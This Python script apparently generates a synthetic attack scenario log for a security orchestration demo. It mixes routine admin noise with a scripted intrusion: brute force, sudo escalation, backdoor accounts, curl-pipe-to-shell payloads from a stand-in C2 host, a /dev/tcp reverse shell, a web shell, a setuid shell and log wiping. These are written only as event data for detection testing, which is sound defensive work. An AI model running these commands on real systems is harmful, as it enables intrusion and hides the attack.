"""Builds soar/data/scenarios/intrusion.jsonl, the attack scenario `soar demo` replays (see the README beside it).

Run ``python scripts/build_intrusion_scenario.py [OUT]`` after changing the story; the
output is deterministic (fixed seed, fixed clock), so the committed file only changes when
the story does. Events take the shapes Elastic Defend, Filebeat's ``system`` module and
Auditbeat's ``auditd`` module write.
"""

# ruff: noqa: S108, S311 -- /tmp paths are the attacker's in the story (not files touched here); the seeded
# random generator only spreads timestamps, reproducibly.

from __future__ import annotations

import json
import random
import shlex
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

SCENARIOS = Path(__file__).resolve().parents[1] / "soar" / "data" / "scenarios"

Event = dict[str, Any]
Parent = tuple[str, list[str] | str]

HOSTS = {
    "bastion-01": {"ip": "10.0.0.5", "env": "prod", "os": ("ubuntu", "22.04.4 LTS (Jammy Jellyfish)")},
    "web-01": {"ip": "10.0.1.10", "env": "prod", "os": ("ubuntu", "22.04.4 LTS (Jammy Jellyfish)")},
    "db-01": {"ip": "10.0.2.20", "env": "prod", "os": ("debian", "12 (bookworm)")},
    "ci-01": {"ip": "10.0.3.30", "env": "staging", "os": ("ubuntu", "24.04.1 LTS (Noble Numbat)")},
}
UIDS = {
    "root": "0",
    "alice": "1001",
    "bob": "1002",
    "deploy": "1003",
    "www-data": "33",
    "postgres": "112",
    "sysupdate": "1004",
    "jenkins": "115",
    "carol": "1005",
    "nginx": "101",
    "apache": "48",
    "mallory": "1006",
}

T0 = datetime(2026, 3, 14, 9, 0, 0, tzinfo=UTC)


def at(seconds: float, base: datetime = T0) -> str:
    t = base + timedelta(seconds=seconds)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def _host(name: str) -> Event:
    h = HOSTS.get(name, {"ip": "10.0.9.9", "env": "prod", "os": ("ubuntu", "22.04.4 LTS (Jammy Jellyfish)")})
    return {
        "name": name,
        "hostname": name,
        "ip": [h["ip"]],
        "os": {"type": "linux", "family": h["os"][0], "name": h["os"][0].capitalize(), "version": h["os"][1]},
    }


def _base(ts: str, host: str) -> Event:
    return {"@timestamp": ts, "ecs": {"version": "8.11.0"}, "host": _host(host)}


def _user(name: str) -> Event:
    return {"name": name, "id": UIDS.get(name, "1000")}


_pid = [4000]


def _nextpid() -> int:
    _pid[0] += 7
    return _pid[0]


def _proc(exe: str, args: list[str], pid: int | None = None) -> Event:
    return {
        "pid": pid or _nextpid(),
        "executable": exe,
        "name": exe.rsplit("/", 1)[-1],
        "args": args,
        "args_count": len(args),
        "command_line": " ".join(args),
    }


def proc(
    ts: str,
    host: str,
    user: str,
    exe: str,
    args: list[str] | str,
    parent: tuple[str, list[str] | str] | None = None,
    cwd: str | None = None,
    euser: str | None = None,
) -> Event:
    """An Elastic Defend process start (exec) event."""
    if isinstance(args, str):
        args = shlex.split(args)
    ev = _base(ts, host)
    ev["agent"] = {"type": "endpoint"}
    ev["event"] = {
        "kind": "event",
        "module": "endpoint",
        "dataset": "endpoint.events.process",
        "category": ["process"],
        "type": ["start"],
        "action": "exec",
    }
    p = _proc(exe, args)
    p["working_directory"] = cwd or ("/root" if user == "root" else f"/home/{user}")
    pexe, pargs = parent or ("/usr/bin/bash", ["-bash"])
    if isinstance(pargs, str):
        pargs = shlex.split(pargs)
    p["parent"] = _proc(pexe, pargs)
    ev["process"] = p
    ev["user"] = _user(user)
    if euser:
        ev["user"]["effective"] = {"name": euser, "id": UIDS.get(euser, "0")}
    return ev


_FILE_TYPES = {
    "creation": "creation",
    "modification": "change",
    "deletion": "deletion",
    "rename": "change",
    "attributes_modification": "change",
}


def file(ts: str, host: str, user: str, path: str, action: str, exe: str) -> Event:
    """An Elastic Defend file event."""
    ev = _base(ts, host)
    ev["agent"] = {"type": "endpoint"}
    ev["event"] = {
        "kind": "event",
        "module": "endpoint",
        "dataset": "endpoint.events.file",
        "category": ["file"],
        "type": [_FILE_TYPES[action]],
        "action": action,
    }
    name = path.rsplit("/", 1)[-1]
    ev["file"] = {"path": path, "name": name, "directory": path.rsplit("/", 1)[0] or "/"}
    if "." in name.lstrip("."):
        ev["file"]["extension"] = name.rsplit(".", 1)[-1]
    ev["process"] = {"pid": _nextpid(), "executable": exe, "name": exe.rsplit("/", 1)[-1]}
    ev["user"] = _user(user)
    return ev


def net(
    ts: str, host: str, user: str, exe: str, dst: str, dport: int, parent: str | None = None, direction: str = "egress"
) -> Event:
    """An Elastic Defend network connection event."""
    ev = _base(ts, host)
    ev["agent"] = {"type": "endpoint"}
    ev["event"] = {
        "kind": "event",
        "module": "endpoint",
        "dataset": "endpoint.events.network",
        "category": ["network"],
        "type": ["start"],
        "action": "connection_attempted",
    }
    ev["network"] = {"direction": direction, "transport": "tcp", "type": "ipv4"}
    ev["source"] = {"ip": HOSTS.get(host, {"ip": "10.0.9.9"})["ip"], "port": 40000 + _nextpid() % 20000}
    ev["destination"] = {"ip": dst, "port": dport}
    ev["process"] = {"pid": _nextpid(), "executable": exe, "name": exe.rsplit("/", 1)[-1]}
    if parent:
        ev["process"]["parent"] = {"executable": parent, "name": parent.rsplit("/", 1)[-1]}
    ev["user"] = _user(user)
    return ev


def _auth(ts: str, host: str, message: str, pname: str) -> Event:
    ev = _base(ts, host)
    ev["agent"] = {"type": "filebeat"}
    ev["event"] = {"kind": "event", "module": "system", "dataset": "system.auth"}
    ev["log"] = {"file": {"path": "/var/log/auth.log"}}
    ev["process"] = {"name": pname, "pid": _nextpid()}
    ev["message"] = message
    return ev


def ssh(
    ts: str,
    host: str,
    user: str,
    src: str,
    outcome: str,
    method: str = "password",
    invalid: bool = False,
    port: int | None = None,
) -> Event:
    """A Filebeat system.auth sshd login line (Accepted / Failed / Invalid)."""
    port = port or 30000 + _nextpid() % 30000
    if outcome == "success":
        sshev, msg = "Accepted", f"Accepted {method} for {user} from {src} port {port} ssh2"
    elif invalid:
        sshev, msg = "Invalid", f"Invalid user {user} from {src} port {port}"
    else:
        sshev, msg = "Failed", f"Failed {method} for {user} from {src} port {port} ssh2"
    ev = _auth(ts, host, msg, "sshd")
    ev["event"].update(
        {
            "category": ["authentication"],
            "type": ["info"] if outcome == "failure" else ["start"],
            "action": "ssh_login",
            "outcome": outcome,
        }
    )
    ev["user"] = {"name": user}
    ev["source"] = {"ip": src, "port": port}
    ev["system"] = {"auth": {"ssh": {"event": sshev, "method": method}}}
    if invalid:
        del ev["system"]["auth"]["ssh"]["method"]
    return ev


def sudo(
    ts: str,
    host: str,
    user: str,
    command: str,
    target: str = "root",
    error: str | None = None,
    tty: str = "pts/0",
    pwd: str | None = None,
) -> Event:
    """A Filebeat system.auth sudo line."""
    pwd = pwd or ("/root" if user == "root" else f"/home/{user}")
    err = f" {error} ;" if error else ""
    msg = f"{user} :{err} TTY={tty} ; PWD={pwd} ; USER={target} ; COMMAND={command}"
    ev = _auth(ts, host, msg, "sudo")
    ev["event"].update(
        {"category": ["process"], "type": ["info"], "action": "sudo", "outcome": "failure" if error else "success"}
    )
    ev["user"] = {"name": user, "effective": {"name": target}}
    s = {"tty": tty, "pwd": pwd, "user": target, "command": command}
    if error:
        s["error"] = error
    ev["system"] = {"auth": {"sudo": s}}
    return ev


def syslog(ts: str, host: str, pname: str, message: str) -> Event:
    """A Filebeat system.syslog line (cron and friends)."""
    ev = _base(ts, host)
    ev["agent"] = {"type": "filebeat"}
    ev["event"] = {"kind": "event", "module": "system", "dataset": "system.syslog"}
    ev["log"] = {"file": {"path": "/var/log/syslog"}}
    ev["process"] = {"name": pname, "pid": _nextpid()}
    ev["message"] = message
    return ev


def auditd(
    ts: str,
    host: str,
    msgtype: str,
    action: str,
    exe: str,
    args: list[str] | str,
    user: str = "root",
    auid: str | None = None,
    path: str | None = None,
    syscall: str | None = None,
    tags: list[str] | None = None,
    category: str = "process",
    outcome: str = "success",
    a: dict[str, str] | None = None,
) -> Event:
    """An Auditbeat auditd module event."""
    if isinstance(args, str):
        args = shlex.split(args)
    ev = _base(ts, host)
    ev["agent"] = {"type": "auditbeat"}
    ev["event"] = {"kind": "event", "module": "auditd", "category": [category], "action": action, "outcome": outcome}
    ev["auditd"] = {
        "message_type": msgtype,
        "result": outcome,
        "sequence": _nextpid() * 3,
        "session": "4",
        "summary": {"actor": {"primary": auid or user, "secondary": user}, "how": exe},
    }
    if path:
        ev["auditd"]["summary"]["object"] = {"type": "file", "primary": path}
        ev["file"] = {"path": path}
    data: dict[str, str] = {}
    if syscall:
        data["syscall"] = syscall
    if a:
        data.update(a)
    if data:
        ev["auditd"]["data"] = data
    ev["process"] = _proc(exe, args)
    ev["process"]["title"] = " ".join(args)
    ev["user"] = {
        "id": UIDS.get(user, "0"),
        "name": user,
        "audit": {"id": UIDS.get(auid or user, "0"), "name": auid or user},
    }
    if tags:
        ev["tags"] = tags
    return ev


BASE = datetime(2026, 3, 14, 13, 0, 0, tzinfo=UTC)
rng = random.Random(20260314)
EVENTS: list[tuple[float, Event]] = []
ATTACKER = "203.0.113.77"
C2 = "198.51.100.23"
VPN = {"alice": "10.8.0.14", "bob": "10.8.0.22", "carol": "10.8.0.31"}
BASTION = "10.0.0.5"


def t(sec: float) -> str:
    return at(sec, BASE)


def add(sec: float, ev: Event) -> None:
    EVENTS.append((sec, ev))


CRON_PARENT = ("/usr/sbin/cron", ["/usr/sbin/cron", "-f", "-P"])


def cron_job(sec: float, host: str, user: str, command: str) -> None:
    add(sec, syslog(t(sec), host, "CRON", f"({user}) CMD ({command})"))
    add(
        sec + 0.01,
        proc(
            t(sec + 0.01),
            host,
            user,
            "/usr/bin/dash",
            ["/bin/sh", "-c", command],
            parent=CRON_PARENT,
            cwd="/root" if user == "root" else "/var/www/html" if user == "www-data" else f"/home/{user}",
        ),
    )


def login(sec: float, host: str, user: str, src: str, method: str = "publickey") -> None:
    add(sec, ssh(t(sec), host, user, src, "success", method=method))
    add(
        sec + 0.1,
        auditd(
            t(sec + 0.1),
            host,
            "user_login",
            "logged-in",
            "/usr/sbin/sshd",
            ["sshd: " + user],
            user="root",
            auid=user,
            category="authentication",
        ),
    )
    add(
        sec + 0.2,
        proc(t(sec + 0.2), host, user, "/usr/bin/bash", ["-bash"], parent=("/usr/sbin/sshd", [f"sshd: {user}@pts/0"])),
    )


def run(
    sec: float,
    host: str,
    user: str,
    args: list[str],
    exe: str | None = None,
    parent: Parent | None = None,
    cwd: str | None = None,
) -> None:
    exe = exe or f"/usr/bin/{args[0]}"
    add(sec, proc(t(sec), host, user, exe, args, parent=parent or ("/usr/bin/bash", ["-bash"]), cwd=cwd))


def admin_sudo(sec: float, host: str, user: str, command: str, target: str = "root") -> None:
    """An administrator's sudo: the auth line, PAM checking the password through unix_chkpwd, the command."""
    add(
        sec - 0.3,
        auditd(
            t(sec - 0.3),
            host,
            "syscall",
            "opened-file",
            "/usr/sbin/unix_chkpwd",
            ["/usr/sbin/unix_chkpwd", user, "nonull"],
            user="root",
            auid=user,
            path="/etc/shadow",
            syscall="openat",
            category="file",
            tags=["shadow_access"],
        ),
    )
    add(sec, sudo(t(sec), host, user, command, target=target, tty="pts/0"))


# ------------------------------------------------------------------ background noise
def noise() -> None:
    # udev loading a driver module on the CI host (filtered as boot/hot-plug activity)
    add(
        400,
        auditd(
            t(400),
            "ci-01",
            "syscall",
            "loaded-kernel-module",
            "/usr/lib/systemd/systemd-udevd",
            ["/usr/lib/systemd/systemd-udevd"],
            syscall="finit_module",
            tags=["modules"],
            category="driver",
        ),
    )
    for host in HOSTS:
        for minute in range(0, 41):
            sec = minute * 60 + rng.uniform(0.5, 1.5)
            if minute % 10 == 0:
                cron_job(sec, host, "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1")
            if minute % 5 == 2:
                cron_job(
                    sec,
                    host,
                    "root",
                    "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean"
                    if host == "web-01"
                    else "/usr/local/sbin/node-health --quiet",
                )
            if minute % 15 == 7:
                add(sec + 3, syslog(t(sec + 3), host, "systemd", "Started Daily apt download activities."))
    # the web application's own scheduler, run by cron as the web user
    for minute in range(0, 41, 5):
        cron_job(
            minute * 60 + 0.8, "web-01", "www-data", "cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1"
        )
        add(
            minute * 60 + 1.2,
            proc(
                t(minute * 60 + 1.2),
                "web-01",
                "www-data",
                "/usr/bin/php8.1",
                ["php", "artisan", "schedule:run"],
                parent=("/usr/bin/dash", ["/bin/sh", "-c", "cd /var/www/app"]),
                cwd="/var/www/app",
            ),
        )
    # web application talking to the database (private addresses)
    for _ in range(30):
        sec = rng.uniform(0, 2400)
        add(sec, net(t(sec), "web-01", "www-data", "/usr/sbin/php-fpm8.1", "10.0.2.20", 5432))
    # logrotate at the top of the hour
    add(
        30,
        proc(
            t(30),
            "web-01",
            "root",
            "/usr/sbin/logrotate",
            ["/usr/sbin/logrotate", "/etc/logrotate.conf"],
            parent=("/usr/lib/systemd/systemd", ["/sbin/init"]),
            cwd="/",
        ),
    )
    for i, name in enumerate(["syslog.7.gz", "auth.log.4.gz", "nginx/access.log.14.gz"]):
        add(31 + i, file(t(31 + i), "web-01", "root", f"/var/log/{name}", "deletion", "/usr/sbin/logrotate"))
    # admins at work
    login(95, "bastion-01", "alice", VPN["alice"])
    login(140, "web-01", "alice", BASTION)
    run(150, "web-01", "alice", ["tail", "-n", "50", "/var/log/nginx/error.log"])
    admin_sudo(180, "web-01", "alice", "/usr/bin/systemctl reload nginx")
    run(
        180.2,
        "web-01",
        "root",
        ["systemctl", "reload", "nginx"],
        parent=("/usr/bin/sudo", ["sudo", "systemctl", "reload", "nginx"]),
    )
    run(240, "web-01", "alice", ["df", "-h"])
    run(260, "web-01", "alice", ["free", "-m"])
    run(300, "web-01", "alice", ["w"])
    login(420, "bastion-01", "bob", VPN["bob"])
    login(470, "db-01", "bob", BASTION)
    admin_sudo(500, "db-01", "bob", "/usr/bin/psql -c select count(*) from pg_stat_activity", target="postgres")
    run(
        500.3,
        "db-01",
        "postgres",
        ["psql", "-c", "select count(*) from pg_stat_activity"],
        parent=("/usr/bin/sudo", ["sudo", "-u", "postgres", "psql"]),
        cwd="/var/lib/postgresql",
    )
    run(640, "db-01", "bob", ["crontab", "-l"])
    # unattended upgrades on web-01 and db-01
    for host, start in (("web-01", 700), ("db-01", 760)):
        admin_sudo(start, host, "alice" if host == "web-01" else "bob", "/usr/bin/apt-get update")
        run(start + 0.3, host, "root", ["apt-get", "update"], parent=("/usr/bin/sudo", ["sudo", "apt-get", "update"]))
        for i, m in enumerate(["http", "http", "gpgv", "store"]):
            run(
                start + 2 + i,
                host,
                "_apt",
                [f"/usr/lib/apt/methods/{m}"],
                exe=f"/usr/lib/apt/methods/{m}",
                parent=("/usr/bin/apt-get", ["apt-get", "update"]),
                cwd="/",
            )
        for i in range(4):
            add(
                start + 3 + i,
                net(
                    t(start + 3 + i),
                    host,
                    "_apt",
                    "/usr/lib/apt/methods/http",
                    rng.choice(["185.125.190.36", "91.189.91.81", "151.101.2.132"]),
                    80,
                ),
            )
        admin_sudo(start + 60, host, "alice" if host == "web-01" else "bob", "/usr/bin/apt-get -y upgrade")
        run(
            start + 60.3,
            host,
            "root",
            ["apt-get", "-y", "upgrade"],
            parent=("/usr/bin/sudo", ["sudo", "apt-get", "-y", "upgrade"]),
        )
        for i, (pkg, paths) in enumerate(
            [
                ("libssl3", ["/usr/lib/x86_64-linux-gnu/libssl.so.3"]),
                ("openssh-server", ["/usr/sbin/sshd", "/lib/systemd/system/ssh.service"]),
                ("apt", ["/etc/cron.daily/apt-compat", "/usr/bin/apt"]),
            ]
        ):
            run(
                start + 70 + i * 8,
                host,
                "root",
                ["dpkg", "--status-fd", "23", "--unpack", f"/var/cache/apt/archives/{pkg}.deb"],
                exe="/usr/bin/dpkg",
                parent=("/usr/bin/apt-get", ["apt-get", "-y", "upgrade"]),
                cwd="/",
            )
            for j, path in enumerate(paths):
                add(
                    start + 71 + i * 8 + j,
                    file(t(start + 71 + i * 8 + j), host, "root", path, "creation", "/usr/bin/dpkg"),
                )
        run(
            start + 100,
            host,
            "root",
            ["systemctl", "daemon-reload"],
            parent=("/usr/bin/dpkg", ["dpkg", "--configure", "-a"]),
        )
    # CI builds on ci-01 unpacking into /tmp (filtered by parent)
    for n, start in enumerate((200, 1100, 1900)):
        login(start, "ci-01", "jenkins", "10.0.3.2")
        run(start + 2, "ci-01", "jenkins", ["git", "fetch", "--tags", "origin"], cwd="/var/lib/jenkins/workspace/api")
        run(
            start + 9,
            "ci-01",
            "jenkins",
            ["go", "build", "./..."],
            exe="/usr/local/go/bin/go",
            cwd="/var/lib/jenkins/workspace/api",
        )
        run(
            start + 30,
            "ci-01",
            "jenkins",
            [f"/tmp/go-build{381204 + n}/b001/api.test", "-test.v"],
            exe=f"/tmp/go-build{381204 + n}/b001/api.test",
            parent=("/usr/local/go/bin/go", ["go", "test", "./..."]),
            cwd="/var/lib/jenkins/workspace/api",
        )
        run(start + 60, "ci-01", "jenkins", ["hostname"], cwd="/var/lib/jenkins/workspace/api")
        run(start + 61, "ci-01", "jenkins", ["uname", "-m"], cwd="/var/lib/jenkins/workspace/api")
        add(start + 90, ssh(t(start + 90), "ci-01", "jenkins", "10.0.3.2", "success", method="publickey"))
    # monitoring probes: a few discovery-style commands, too few distinct ones to be a burst
    for minute in range(1, 40, 4):
        for host in ("web-01", "db-01"):
            run(
                minute * 60 + 12,
                host,
                "zabbix",
                ["ss", "-s"],
                exe="/usr/bin/ss",
                parent=("/usr/sbin/zabbix_agentd", ["/usr/sbin/zabbix_agentd", "-c", "/etc/zabbix/zabbix_agentd.conf"]),
                cwd="/",
            )
            run(
                minute * 60 + 13,
                host,
                "zabbix",
                ["ps", "-e"],
                exe="/usr/bin/ps",
                parent=("/usr/sbin/zabbix_agentd", ["/usr/sbin/zabbix_agentd"]),
                cwd="/",
            )
    # internet background scanning of the bastion: a few tries each, then gone
    for ip, users, start in (
        ("45.148.10.92", ["root", "root", "admin"], 60),
        ("193.32.162.7", ["ubnt", "pi", "pi"], 1500),
        ("80.94.95.115", ["root", "user"], 2200),
    ):
        for i, u in enumerate(users):
            add(start + i * 4, ssh(t(start + i * 4), "bastion-01", u, ip, "failure", invalid=u not in ("root",)))
    # carol logs in late for an on-call check
    login(2300, "bastion-01", "carol", VPN["carol"])
    run(2310, "bastion-01", "carol", ["last", "-n", "20"])
    run(2320, "bastion-01", "carol", ["uptime"])


# ------------------------------------------------------------------ the intrusion
def intrusion() -> None:
    users = ["root", "admin", "ubuntu", "deploy", "oracle", "test", "postgres", "git"]
    invalid = {"admin", "oracle", "test", "git"}
    # 1. brute force and spraying against bastion-01 (13:04:00 - 13:11:40)
    sec = 240.0
    for i in range(48):
        u = users[i % len(users)]
        add(sec, ssh(t(sec), "bastion-01", u, ATTACKER, "failure", invalid=u in invalid))
        sec += rng.uniform(7.5, 11.0)
    # 2. the password of deploy works (13:12)
    sec = 724.0
    add(sec, ssh(t(sec), "bastion-01", "deploy", ATTACKER, "success", method="password"))
    add(
        sec + 0.05,
        auditd(
            t(sec + 0.05),
            "bastion-01",
            "syscall",
            "opened-file",
            "/usr/sbin/unix_chkpwd",
            ["/usr/sbin/unix_chkpwd", "deploy", "nullok"],
            user="root",
            auid="deploy",
            path="/etc/shadow",
            syscall="openat",
            category="file",
            tags=["shadow_access"],
        ),
    )
    ATT_SHELL = ("/usr/bin/bash", ["-bash"])
    add(
        sec + 0.3,
        proc(
            t(sec + 0.3),
            "bastion-01",
            "deploy",
            "/usr/bin/bash",
            ["-bash"],
            parent=("/usr/sbin/sshd", ["sshd: deploy@pts/2"]),
        ),
    )
    # 3. discovery (13:13 - 13:15)
    sec = 790.0
    for args in (
        ["whoami"],
        ["id"],
        ["uname", "-a"],
        ["hostname"],
        ["cat", "/etc/os-release"],
        ["ip", "a"],
        ["ss", "-tunap"],
        ["ps", "aux"],
        ["last", "-n", "10"],
        ["w"],
        ["ls", "-la", "/home"],
    ):
        run(sec, "bastion-01", "deploy", args, parent=ATT_SHELL, cwd="/home/deploy")
        sec += rng.uniform(6, 14)
    # 4. privilege escalation with sudo (13:16)
    sec = 960.0
    add(sec, sudo(t(sec), "bastion-01", "deploy", "list", tty="pts/2"))
    run(sec + 0.1, "bastion-01", "deploy", ["sudo", "-l"], parent=ATT_SHELL)
    sec = 975.0
    add(sec, sudo(t(sec), "bastion-01", "deploy", "/usr/bin/su -", tty="pts/2"))
    run(sec + 0.1, "bastion-01", "deploy", ["sudo", "su", "-"], parent=ATT_SHELL)
    run(sec + 0.2, "bastion-01", "root", ["su", "-"], parent=("/usr/bin/sudo", ["sudo", "su", "-"]))
    ROOT_SHELL = ("/usr/bin/bash", ["-bash"])
    # 5. persistence on bastion-01 (13:18 - 13:22)
    sec = 1080.0
    run(
        sec,
        "bastion-01",
        "root",
        ["useradd", "-m", "-s", "/bin/bash", "sysupdate"],
        exe="/usr/sbin/useradd",
        parent=ROOT_SHELL,
        cwd="/root",
    )
    for i, path in enumerate(["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"]):
        add(
            sec + 0.1 + i * 0.01,
            file(t(sec + 0.1 + i * 0.01), "bastion-01", "root", path, "modification", "/usr/sbin/useradd"),
        )
    run(sec + 12, "bastion-01", "root", ["passwd", "sysupdate"], parent=ROOT_SHELL, cwd="/root")
    add(sec + 20, file(t(sec + 20), "bastion-01", "root", "/etc/shadow", "modification", "/usr/bin/passwd"))
    run(
        sec + 30,
        "bastion-01",
        "root",
        ["usermod", "-aG", "sudo", "sysupdate"],
        exe="/usr/sbin/usermod",
        parent=ROOT_SHELL,
        cwd="/root",
    )
    add(sec + 30.1, file(t(sec + 30.1), "bastion-01", "root", "/etc/group", "modification", "/usr/sbin/usermod"))
    sec = 1150.0
    run(sec, "bastion-01", "root", ["mkdir", "-p", "/root/.ssh"], parent=ROOT_SHELL, cwd="/root")
    add(sec + 8, file(t(sec + 8), "bastion-01", "root", "/root/.ssh/authorized_keys", "modification", "/usr/bin/bash"))
    run(sec + 15, "bastion-01", "root", ["chattr", "+i", "/root/.ssh/authorized_keys"], parent=ROOT_SHELL, cwd="/root")
    sec = 1230.0
    sub = ("/usr/bin/bash", ["-bash"])
    run(sec, "bastion-01", "root", ["crontab", "-l"], parent=sub, cwd="/root")
    run(sec + 0.02, "bastion-01", "root", ["crontab", "-"], parent=sub, cwd="/root")
    add(
        sec + 0.1,
        file(t(sec + 0.1), "bastion-01", "root", "/var/spool/cron/crontabs/root", "creation", "/usr/bin/crontab"),
    )
    # the cron job fires every ten minutes from then on
    for fire in (1800.0, 2400.0):
        cron_job(fire + 0.4, "bastion-01", "root", f"curl -fsSL http://{C2}/u.sh | sh")
        run(
            fire + 0.5,
            "bastion-01",
            "root",
            ["curl", "-fsSL", f"http://{C2}/u.sh"],
            parent=("/usr/bin/dash", ["/bin/sh", "-c"]),
            cwd="/root",
        )
        add(fire + 0.6, net(t(fire + 0.6), "bastion-01", "root", "/usr/bin/curl", C2, 80))
    # 6. web-01: deploy's key reaches it; payload piped to a shell, a dropped binary, a reverse shell (13:23 - 13:27)
    sec = 1380.0
    add(sec, ssh(t(sec), "web-01", "deploy", BASTION, "success", method="publickey"))
    run(
        sec + 0.3,
        "web-01",
        "deploy",
        ["bash", "-c", f"curl -fsSL http://{C2}/x.sh | sh"],
        parent=("/usr/sbin/sshd", ["sshd: deploy@notty"]),
        cwd="/home/deploy",
    )
    run(
        sec + 0.4,
        "web-01",
        "deploy",
        ["curl", "-fsSL", f"http://{C2}/x.sh"],
        parent=("/usr/bin/bash", ["bash", "-c"]),
        cwd="/home/deploy",
    )
    add(sec + 0.5, net(t(sec + 0.5), "web-01", "deploy", "/usr/bin/curl", C2, 80))
    run(
        sec + 0.6,
        "web-01",
        "deploy",
        ["sh"],
        exe="/usr/bin/dash",
        parent=("/usr/bin/bash", ["bash", "-c"]),
        cwd="/home/deploy",
    )
    add(sec + 1.5, file(t(sec + 1.5), "web-01", "deploy", "/tmp/.x/kworker", "creation", "/usr/bin/curl"))
    run(
        sec + 2.0,
        "web-01",
        "deploy",
        ["chmod", "+x", "/tmp/.x/kworker"],
        parent=("/usr/bin/dash", ["sh"]),
        cwd="/tmp/.x",
    )
    run(
        sec + 2.2,
        "web-01",
        "deploy",
        ["/tmp/.x/kworker", "-c", f"{C2}:443"],
        exe="/tmp/.x/kworker",
        parent=("/usr/bin/dash", ["sh"]),
        cwd="/tmp/.x",
    )
    add(sec + 2.6, net(t(sec + 2.6), "web-01", "deploy", "/tmp/.x/kworker", C2, 443))
    sec = 1500.0
    run(
        sec,
        "web-01",
        "deploy",
        ["bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1"],
        parent=("/tmp/.x/kworker", ["/tmp/.x/kworker", "-c"]),
        cwd="/tmp/.x",
    )
    add(sec + 0.2, net(t(sec + 0.2), "web-01", "deploy", "/usr/bin/bash", C2, 4444))
    # 6b. a web shell dropped into the site through deploy's write access, used as www-data
    sec = 1560.0
    add(
        sec, file(t(sec), "web-01", "deploy", "/var/www/app/public/.well-known/health.php", "creation", "/usr/bin/bash")
    )
    sec = 1600.0
    add(
        sec,
        proc(
            t(sec),
            "web-01",
            "www-data",
            "/usr/bin/dash",
            ["sh", "-c", "id; sudo -n true"],
            parent=("/usr/sbin/php-fpm8.1", ["php-fpm: pool www"]),
            cwd="/var/www/app/public/.well-known",
        ),
    )
    add(
        sec + 0.2,
        sudo(
            t(sec + 0.2),
            "web-01",
            "www-data",
            "/usr/bin/true",
            error="user NOT in sudoers",
            tty="unknown",
            pwd="/var/www/app/public/.well-known",  # noqa: S106 -- sudo's working directory, not a password
        ),
    )
    add(sec + 5, net(t(sec + 5), "web-01", "www-data", "/usr/sbin/php-fpm8.1", C2, 8443))
    # 7. db-01: root's own key from the bastion, hashes, a setuid shell, a service (13:28 - 13:33)
    sec = 1680.0
    add(sec, ssh(t(sec), "db-01", "root", BASTION, "success", method="publickey"))
    add(
        sec + 0.3,
        proc(
            t(sec + 0.3), "db-01", "root", "/usr/bin/bash", ["-bash"], parent=("/usr/sbin/sshd", ["sshd: root@pts/3"])
        ),
    )
    sec = 1720.0
    run(sec, "db-01", "root", ["cat", "/etc/shadow"], parent=ROOT_SHELL, cwd="/root")
    add(
        sec + 0.01,
        auditd(
            t(sec + 0.01),
            "db-01",
            "syscall",
            "opened-file",
            "/usr/bin/cat",
            ["cat", "/etc/shadow"],
            user="root",
            auid="root",
            path="/etc/shadow",
            syscall="openat",
            category="file",
            tags=["shadow_access"],
        ),
    )
    sec = 1790.0
    run(sec, "db-01", "root", ["cp", "/bin/bash", "/var/tmp/.bash"], parent=ROOT_SHELL, cwd="/root")
    add(sec + 0.1, file(t(sec + 0.1), "db-01", "root", "/var/tmp/.bash", "creation", "/usr/bin/cp"))
    run(sec + 5, "db-01", "root", ["chmod", "4755", "/var/tmp/.bash"], parent=ROOT_SHELL, cwd="/root")
    sec = 1860.0
    run(
        sec,
        "db-01",
        "root",
        ["cp", "/tmp/.u/dbus-broker-helper.service", "/etc/systemd/system/"],
        parent=ROOT_SHELL,
        cwd="/root",
    )
    add(
        sec + 0.1,
        file(
            t(sec + 0.1), "db-01", "root", "/etc/systemd/system/dbus-broker-helper.service", "creation", "/usr/bin/cp"
        ),
    )
    run(
        sec + 6, "db-01", "root", ["systemctl", "enable", "--now", "dbus-broker-helper"], parent=ROOT_SHELL, cwd="/root"
    )
    sec = 1950.0
    run(sec, "db-01", "root", ["rm", "-f", "/root/.bash_history"], parent=ROOT_SHELL, cwd="/root")
    add(sec + 0.05, file(t(sec + 0.05), "db-01", "root", "/root/.bash_history", "deletion", "/usr/bin/rm"))
    # 8. log tampering on bastion-01 (13:34 - 13:37)
    sec = 2040.0
    run(sec, "bastion-01", "root", ["auditctl", "-D"], exe="/usr/sbin/auditctl", parent=ROOT_SHELL, cwd="/root")
    add(
        sec + 0.05,
        auditd(
            t(sec + 0.05),
            "bastion-01",
            "config_change",
            "changed-audit-configuration",  # Auditbeat's one label for every audit configuration change
            "/usr/sbin/auditctl",
            ["auditctl", "-D"],
            user="root",
            auid="deploy",
            tags=["audit_config"],
            category="configuration",
            a={"op": "remove_rule", "list": "4"},  # the kernel's CONFIG_CHANGE record: what changed
        ),
    )
    run(sec + 10, "bastion-01", "root", ["systemctl", "stop", "auditd"], parent=ROOT_SHELL, cwd="/root")
    sec = 2100.0
    run(sec, "bastion-01", "root", ["truncate", "-s", "0", "/var/log/auth.log"], parent=ROOT_SHELL, cwd="/root")
    add(sec + 0.05, file(t(sec + 0.05), "bastion-01", "root", "/var/log/auth.log", "modification", "/usr/bin/truncate"))
    run(sec + 8, "bastion-01", "root", ["rm", "-f", "/var/log/wtmp", "/var/log/btmp"], parent=ROOT_SHELL, cwd="/root")
    add(sec + 8.05, file(t(sec + 8.05), "bastion-01", "root", "/var/log/wtmp", "deletion", "/usr/bin/rm"))
    add(sec + 8.06, file(t(sec + 8.06), "bastion-01", "root", "/var/log/btmp", "deletion", "/usr/bin/rm"))
    run(
        sec + 15,
        "bastion-01",
        "root",
        ["ln", "-sf", "/dev/null", "/root/.bash_history"],
        parent=ROOT_SHELL,
        cwd="/root",
    )
    run(sec + 20, "bastion-01", "deploy", ["ln", "-sf", "/dev/null", "/home/deploy/.bash_history"], parent=ATT_SHELL)


def main(argv: list[str]) -> None:
    out_path = Path(argv[1]) if len(argv) > 1 else SCENARIOS / "intrusion.jsonl"
    noise()
    intrusion()
    EVENTS.sort(key=lambda p: p[0])
    out_path.parent.mkdir(parents=True, exist_ok=True)
    with out_path.open("w") as fh:
        for _, ev in EVENTS:
            fh.write(json.dumps(ev, separators=(",", ":"), ensure_ascii=False) + "\n")
